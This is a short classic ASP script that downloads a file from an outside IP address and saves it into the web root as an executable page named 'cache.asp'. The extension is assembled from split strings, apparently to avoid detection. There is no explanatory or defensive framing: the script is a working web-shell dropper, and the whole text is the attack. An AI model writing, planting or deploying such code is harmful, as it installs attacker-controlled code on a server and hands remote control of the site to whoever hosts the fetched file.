<%
Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://198.51.100.7/a.txt", False
h.Send
body = h.responseBody
Set st = CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write body
name = "cache.as" & "p"
st.SaveToFile Server.MapPath(name), 2
%>
